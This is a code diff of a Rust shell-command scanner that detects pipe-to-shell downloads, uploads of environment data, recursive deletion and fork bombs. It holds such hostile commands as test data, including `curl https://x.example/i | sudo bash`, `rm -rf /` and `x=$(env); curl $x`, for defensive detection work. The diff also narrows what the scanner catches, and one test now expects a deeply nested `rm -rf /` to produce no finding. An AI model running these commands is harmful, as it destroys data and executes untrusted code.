@@ -1,31 +1,18 @@
 //! Finds harmful shell commands: those that run downloaded code, delete files, open remote access, or send files away.
 //!
-//! Scripts are parsed with their quotes, groups, functions, here-documents and substitutions, so `echo "rm -rf /"` is text
-//! and `'rm' -rf /` is a command. Variables stand for the constants that the script assigns to them, and what `bash -c`,
-//! `eval`, a pipe, a here-document or a file gives to a shell is scanned as a script too. A command whose name the script
-//! computes is a `COMPUTED_COMMAND`, but a variable of the environment (`$CC`) is not. What cannot be read is a finding:
-//! `SYNTAX_ERROR` and `TOO_COMPLEX`. Not detected: code in another language, and what runs on another machine. Policies
-//! call it by the function `semgrep`, and [`python`](super::python) for the commands in notebooks.
-//!
-//! The parser is our own since that of `brush-parser` 0.4.0 panics on here-documents in `${…}`, takes time exponential in
-//! the number of open brackets (22 of `case a in a) `, in 290 bytes, take over ten seconds, which a limit of nesting cannot
-//! mend, since it also grows with the length) and reads nothing of a script with one error.
+//! Commands are parsed with their quotes, pipes and substitutions, so `echo "rm -rf /"` is text and `'rm' -rf /` is a
+//! command. Not detected: a command assembled from variables, a here-document that a shell runs, and code in another
+//! language. Policies call it by the function `semgrep`, and [`python`](super::python) for the commands in notebooks.
 
-mod compound;
 mod effective_command;
-mod expansion;
-mod flow;
-mod function;
-mod parser;
-mod scanner;
 mod syntax;
-mod words;
 
+use std::collections::BTreeSet;
 use std::ops::Range;
 
 use super::MAX_FINDINGS;
-use flow::{Flow, PlacedScript, ScriptLocation};
-use scanner::CommandScanner;
+use effective_command::{EffectiveCommand, INTERPRETERS, READERS, SHELLS};
+use syntax::{Pipeline, ShellCommand, Word};
 
 /// The severity of a command.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
@@ -57,36 +44,156 @@ pub struct UnsafeCommand {
     pub severity: IssueSeverity,
 }
 
-/// Maximum length of a script that is read to its end, in bytes.
-pub const MAX_BYTES: usize = 1 << 20;
+/// Substitutions and `bash -c` are followed to this depth.
+const MAX_DEPTH: usize = 6;
 
-/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`]. Of a script that is
-/// longer than [`MAX_BYTES`], the start is read, and the whole is `TOO_COMPLEX`.
+/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`].
 ///
 /// ```
 /// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
 /// assert_eq!((issues[0].kind, issues[0].span.start), ("PIPE_TO_SHELL", 11));
 /// ```
 pub fn find(text: &str) -> Vec<UnsafeCommand> {
-    let mut scanner = CommandScanner::new(text.len());
-    let start = text.get(..text.floor_char_boundary(MAX_BYTES)).unwrap_or_default();
-    let is_whole = start.len() == text.len();
-    let script = PlacedScript { text: start.to_owned(), location: ScriptLocation::Whole, is_exact: is_whole };
-    scanner.scan_script(&script, &Flow::default());
-    if scanner.is_incomplete() || !is_whole {
-        scanner.report("TOO_COMPLEX", 0..text.len(), IssueSeverity::Error);
-    }
-    // The fork bomb defines a function named `:`, which calls itself.
+    let mut finder = CommandScanner::default();
+    // The script is the whole text, so it begins at byte 0, and no script encloses it.
+    finder.scan_script(text, &ScriptLocation::From(0), 0);
+    // The fork bomb defines a function named `:`, which the parser does not read as a command.
     let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
     if squeezed.contains(":(){:|:&};:") {
         // An estimate: the white space is lost, and with it the exact position.
         let start = text.find(':').unwrap_or(0);
-        scanner.report("FORK_BOMB", start..text.len(), IssueSeverity::Error);
+        finder.issues.push(UnsafeCommand {
+            kind: "FORK_BOMB",
+            span: start..text.len(),
+            severity: IssueSeverity::Error,
+        });
     }
-    let mut issues = scanner.issues;
+    let mut issues = finder.issues;
     issues.sort_by_key(|issue| (issue.span.start, issue.span.end));
+    issues.dedup();
     issues.truncate(MAX_FINDINGS);
     issues
+}
+
+/// The location of a script in the whole text.
+#[derive(Clone)]
+enum ScriptLocation {
+    /// From this byte on.
+    From(usize),
+    /// Somewhere within these bytes: the quotes around it were removed, so positions in it do not correspond to the
+    /// text.
+    Within(Range<usize>),
+}
+
+impl ScriptLocation {
+    /// Returns the bytes of the whole text that correspond to a range of the script, or that contain the whole script
+    /// if positions in it correspond to none.
+    fn locate(&self, range: Range<usize>) -> Range<usize> {
+        match self {
+            Self::From(offset) => range.start + offset..range.end + offset,
+            Self::Within(whole) => whole.clone(),
+        }
+    }
+}
+
+/// Collects the unsafe commands of a script.
+#[derive(Default)]
+struct CommandScanner {
+    issues: Vec<UnsafeCommand>,
+    /// The names of the files into which earlier commands downloaded.
+    fetched: BTreeSet<String>,
+}
+
+impl CommandScanner {
+    /// Reports the unsafe commands of a script: commands that are unsafe alone, and combinations in a pipeline, such as
+    /// a download that a shell executes. Scans nested scripts recursively (substitutions, and arguments that a shell
+    /// executes). `location` maps spans of `text` to the whole text, and `depth` counts the enclosing scripts.
+    fn scan_script(&mut self, text: &str, location: &ScriptLocation, depth: usize) {
+        for pipeline in syntax::read(text) {
+            // More than are returned, since duplicates are removed later.
+            if self.issues.len() > 2 * MAX_FINDINGS {
+                return;
+            }
+            let mut report = |kind, span, severity| {
+                self.issues.push(UnsafeCommand { kind, span: location.locate(span), severity });
+            };
+            let calls: Vec<EffectiveCommand<'_>> = pipeline.iter().map(EffectiveCommand::new).collect();
+            // The scripts in the substitutions of a word.
+            let substituted_scripts = |word: &Word| -> String {
+                word.inner.iter().filter_map(|range| text.get(range.clone())).collect::<Vec<_>>().join("\n")
+            };
+            for (i, call) in calls.iter().enumerate() {
+                call.report_effects(&mut |kind, severity| report(kind, call.command.span(), severity));
+                let earlier = calls.get(..i).unwrap_or_default();
+                let whole = || pipeline_span(&pipeline);
+                if call.reads_script() {
+                    if earlier.iter().any(EffectiveCommand::fetches) {
+                        report("PIPE_TO_SHELL", whole(), IssueSeverity::Error);
+                    }
+                    if earlier.iter().any(EffectiveCommand::decodes) {
+                        report("DECODE_TO_SHELL", whole(), IssueSeverity::Error);
+                    }
+                }
+                if call.connects() {
+                    if earlier.iter().any(|call| call.is_one_of(SHELLS) && call.has_argument("-i")) {
+                        report("REVERSE_SHELL", whole(), IssueSeverity::Error);
+                    }
+                    if earlier.iter().any(|call| {
+                        call.reads_sensitive() || call.is_one_of(&["tar", "zip"]) || call.dumps_environment()
+                    }) {
+                        report("UPLOAD", whole(), IssueSeverity::Error);
+                    }
+                }
+                let substitutions: String =
+                    call.words().map(&substituted_scripts).collect::<Vec<_>>().join("\n");
+                // The commands in the substitutions of the arguments.
+                let nested: Vec<Pipeline> =
+                    if substitutions.is_empty() { Vec::new() } else { syntax::read(&substitutions) };
+                let nested = || nested.iter().flatten().map(EffectiveCommand::new);
+                let runs = call.is_one_of(INTERPRETERS) || call.is_one_of(&["source", "."]);
+                if runs
+                    && (nested().any(|inner| inner.fetches())
+                        || call.words().any(|w| self.fetched.contains(&w.text)))
+                {
+                    report("PIPE_TO_SHELL", call.command.span(), IssueSeverity::Error);
+                }
+                if call.fetches()
+                    && nested().any(|inner| inner.is_one_of(READERS) || inner.dumps_environment())
+                {
+                    report("UPLOAD", call.command.span(), IssueSeverity::Error);
+                }
+            }
+            // The files into which a command downloads; a later command may run one of them.
+            for call in calls.iter().filter(|call| call.fetches()) {
+                let redirected = call.command.redirects.iter().filter(|(op, _)| op.starts_with('>'));
+                self.fetched.extend(redirected.map(|(_, word)| word.text.clone()));
+                self.fetched
+                    .extend(["-o", "-O", "--output"].iter().filter_map(|option| call.option_value(option)));
+            }
+            if depth < MAX_DEPTH {
+                for call in &calls {
+                    for range in call.every_word().flat_map(|word| &word.inner) {
+                        let at = match location {
+                            ScriptLocation::From(offset) => ScriptLocation::From(offset + range.start),
+                            // The script is an argument whose offsets are not those of the text, so all of its parts
+                            // have the span of the argument.
+                            within => within.clone(),
+                        };
+                        self.scan_script(text.get(range.clone()).unwrap_or_default(), &at, depth + 1);
+                    }
+                    if let Some((script, span)) = call.inner_script() {
+                        self.scan_script(&script, &ScriptLocation::Within(location.locate(span)), depth + 1);
+                    }
+                }
+            }
+        }
+    }
+}
+
+/// Returns the bytes from the first to the last command of a pipeline.
+fn pipeline_span(pipeline: &[ShellCommand]) -> Range<usize> {
+    let first = pipeline.first().map_or(0, |command| command.span().start);
+    first..pipeline.last().map_or(first, |command| command.span().end)
 }
 
 #[cfg(test)]
@@ -130,194 +237,8 @@ mod tests {
     }
 
     #[test]
-    fn what_flows_into_shells() {
-        let check = |text: &str, expected: &[(&str, &str)]| {
-            let found: Vec<_> =
-                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
-            assert_eq!(found, expected, "{text}");
-        };
-        // Here-documents and here-strings. Places in a document are those of the script.
-        check("bash <<E\nls\nrm -rf /\nE\nls", &[("REMOVE_ALL", "rm -rf /")]);
-        check("bash <<-E\n\tx=1; rm -rf /\n\tE", &[("REMOVE_ALL", "rm -rf /")]);
-        check("bash <<E\nrm -rf $HOME\nE", &[("REMOVE_ALL", "rm -rf $HOME\n")]);
-        check("cat <<E\nrm -rf /\nE", &[]);
-        check("cat <<E\n$(rm -rf /)\nE", &[("REMOVE_ALL", "rm -rf /")]);
-        check("cat <<'E'\n$(rm -rf /)\nE", &[]);
-        check("cat <<A <<B | sh\nrm -rf /\nA\nrm -rf ~\nB", &[("REMOVE_ALL", "rm -rf ~\n")]);
-        check("cat <<E | rev | sh\nx\nE", &[("DECODE_TO_SHELL", "cat <<E | rev | sh")]);
-        check("sh <<< 'rm -rf /'", &[("REMOVE_ALL", "'rm -rf /'")]);
-        check("while read l; do sh; done <<< 'rm -rf /'", &[("REMOVE_ALL", "'rm -rf /'")]);
-        check("{ sh; } < <(curl x)", &[("PIPE_TO_SHELL", "curl x")]);
-        // A pipe continues on the next line.
-        check("curl x |\n# a\n sh", &[("PIPE_TO_SHELL", "curl x |\n# a\n sh")]);
-        check("curl x\nsh", &[]);
-        // Groups and functions.
-        check("(curl x; :) | { ls; sh; }", &[("PIPE_TO_SHELL", "(curl x; :) | { ls; sh; }")]);
-        check("f() { curl x; }; f | sh", &[("PIPE_TO_SHELL", "f | sh")]);
-        check("f() { sh; }; curl x | f", &[("PIPE_TO_SHELL", "curl x | f")]);
-        check("f() { rm -rf $1$2; }; f a; f / ''", &[("REMOVE_ALL", "rm -rf $1$2")]);
-        check("f() { g; }; g() { rm -rf $x; }; x=a; f; x=/; f", &[("REMOVE_ALL", "rm -rf $x")]);
-        check("f() { f; }; f", &[]);
-        check("curl x > /dev/null; sh a /dev/null", &[]);
-        check(
-            "f() { bash -c \"$1\"; }; f \"$(curl x)\"; f ls",
-            &[("PIPE_TO_SHELL", "bash -c \"$1\""), ("COMPUTED_COMMAND", "\"$1\"")],
-        );
-        check("f() { :; }; f \"$(curl x)\"; bash -c \"$1\"; bash -c \"$@\"", &[]);
-        // Files.
-        check("curl x -o i; chmod +x i; ./i", &[("PIPE_TO_SHELL", "./i")]);
-        check("echo 'rm -rf /' | tee i; sh i", &[]);
-        check("echo 'rm -rf /' > i; sh i", &[("REMOVE_ALL", "'rm -rf /'")]);
-        check("cd /; (cd /tmp); rm -rf *", &[("REMOVE_ALL", "rm -rf *")]);
-        check("(cd /); rm -rf *; cd /; cd a; rm -rf *", &[]);
-        // Arguments.
-        check("echo '/ x' | xargs rm -rf", &[("REMOVE_ALL", "xargs rm -rf")]);
-        check(
-            "find . -exec rm -rf / ';' -exec chmod 777 x +",
-            &[
-                ("REMOVE_ALL", "find . -exec rm -rf / ';' -exec chmod 777 x +"),
-                ("REMOVE_ALL", "rm -rf /"),
-                ("WORLD_WRITABLE", "chmod 777 x"),
-            ],
-        );
-        check("x=$(cat a); curl $x", &[]);
-        check("x=$(env); curl $x", &[("ENVIRONMENT_DUMP", "env"), ("UPLOAD", "curl $x")]);
-    }
-
-    #[test]
-    fn variables() {
-        let check = |text: &str, expected: &[(&str, &str)]| {
-            let found: Vec<_> =
-                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
-            assert_eq!(found, expected, "{text}");
-        };
-        let removes = |text: &str, part: &str| check(text, &[("REMOVE_ALL", part)]);
-        removes("x=rm; y=/; $x -rf \"$y\"", "$x -rf \"$y\"");
-        removes("x='rm -rf /'; $x", "$x");
-        removes("x=r; x+=m; $x -rf /", "$x -rf /");
-        removes("x=ls; if a; then x=rm; fi; $x -rf /", "$x -rf /");
-        removes("x=rm; x=ls; $x -rf /", "$x -rf /");
-        removes("readonly x=/; rm -rf ${x}", "rm -rf ${x}");
-        removes("rm -rf ${x:-/}", "rm -rf ${x:-/}");
-        removes("for i in a /; do rm -rf $i; done", "rm -rf $i");
-        removes("x=$(ls); x=/; rm -rf $x", "rm -rf $x");
-        removes("bash -c \"rm -rf / $x\"", "\"rm -rf / $x\"");
-        removes("x='rm -rf /'; bash -c \"$x\"", "\"$x\"");
-        check("x='rm -rf /'; \"$x\"; echo $x", &[]);
-        check("x=; rm -rf $x/a", &[]);
-        check("x=; x=$1; rm -rf $x/", &[]);
-        let computed = |text: &str, part: &str| check(text, &[("COMPUTED_COMMAND", part)]);
-        computed("x=$(ls); $x a", "$x a");
-        computed("$(ls) a", "$(ls) a");
-        computed("sudo `ls` a", "sudo `ls` a");
-        computed("$a$b", "$a$b");
-        computed("${!a}", "${!a}");
-        computed("read x; $x", "$x");
-        computed("/bin/r? a", "/bin/r? a");
-        check("$CC a; \"$@\"; $1; $DIR/bin/a; [ -f a ]; ${X:-ls}", &[]);
-    }
-
-    #[test]
-    fn what_is_not_understood_is_reported() {
-        let check = |text: &str, expected: &[&str]| {
-            let kinds: Vec<_> = find(text).into_iter().map(|issue| issue.kind).collect();
-            assert_eq!(kinds, expected, "{text}");
-        };
-        for text in [
-            "echo 'a",
-            "echo \"a",
-            "echo $(a",
-            "echo `a",
-            "echo ${a",
-            "cat <<E\na",
-            "(a",
-            "{ a",
-            "if a; then b",
-            "a)",
-            "done",
-            "case a in b) c",
-            "a=(b",
-            "[[ a",
-            "bash -c 'echo \"'",
-            "bash <<E\n(\nE",
-            "echo $'a",
-            "a >",
-        ] {
-            check(text, &["SYNTAX_ERROR"]);
-        }
-        // Not every shell understands it, but it is understood here.
-        for text in [
-            "for i in a; { b; }",
-            "a 2>&1 | b |& c &> d",
-            "echo $[1 + 2] $\"a\"",
-            "case a in (b|c) d;; *) ;& esac",
-            "",
-            "#",
-        ] {
-            check(text, &[]);
-        }
-        for open in ["$(", "(", "{ ", "if ", "`a $(", "${a:-", "\"$(", "f() { ", "case a in a) "] {
-            let kinds: Vec<_> = find(&open.repeat(5000)).into_iter().map(|issue| issue.kind).collect();
-            assert!(kinds.contains(&"TOO_COMPLEX") || open.contains('`'), "{open}: {kinds:?}");
-        }
-        let mut nested = "ls".to_owned();
-        for _ in 0..8 {
-            nested = format!("eval {nested}");
-        }
-        assert!(find(&nested).iter().any(|issue| issue.kind == "TOO_COMPLEX"), "{nested}");
-        let long = format!("rm -rf /\n{}", "é".repeat(MAX_BYTES / 2));
-        check(&long, &["REMOVE_ALL", "TOO_COMPLEX"]);
-        check(&format!("'{}'", "é".repeat(MAX_BYTES / 2 - 1)), &[]);
-        // Expansions that would double again and again.
-        let doubling = format!("x=aaaaaaaaaaaaaaaa;{}", "x=$x$x;".repeat(1000));
-        let kinds: Vec<_> = find(&doubling).into_iter().map(|issue| issue.kind).collect();
-        assert_eq!(kinds, ["TOO_COMPLEX"]);
-        let calls = "f() { g $1a; g $1b; }; g() { h $1a; h $1b; }; h() { f $1a; f $1b; };".to_owned()
-            + &"f a; f b; ".repeat(2000);
-        let started = find(&calls);
-        assert!(started.len() <= 1, "{started:?}");
-    }
-
-    /// The deepest scripts that are followed, on a small stack, in an unoptimised build.
-    #[test]
-    fn deep_scripts_overflow_nothing() {
-        let run = || {
-            let wrap = |text: &str, open: &str, close: &str, n: usize| {
-                format!("{}{text}{}", open.repeat(n), close.repeat(n))
-            };
-            for (open, close) in [
-                ("$(", ")"),
-                ("(", ")"),
-                ("{ ", ";}"),
-                ("if ", ";then a;fi"),
-                ("f() { ", ";}; f"),
-                ("`a $(", ")`"),
-                ("${a:-", "}"),
-                ("a=(", ")"),
-                ("\"$(", ")\""),
-                ("[[ $(", ") ]]"),
-                ("<(", ")"),
-                ("case a in a) ", ";;esac"),
-                ("$(( $(", ") ))"),
-            ] {
-                for n in [15, 31, 32, 33, 100] {
-                    let inner = wrap("ls", open, close, n);
-                    find(&inner);
-                    let mut script = inner.clone();
-                    for _ in 0..6 {
-                        script = format!("cat <<'E{}' | sh\n{script}\nE{0}\n{inner}", script.len());
-                    }
-                    find(&script);
-                }
-            }
-        };
-        std::thread::Builder::new().stack_size(1 << 20).spawn(run).unwrap().join().unwrap();
-    }
-
-    #[test]
     fn depth_is_bounded() {
         let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
-        let kinds: Vec<_> = find(&deep).into_iter().map(|issue| issue.kind).collect();
-        assert!(kinds.contains(&"TOO_COMPLEX"), "{kinds:?}");
+        assert!(find(&deep).is_empty());
     }
 }
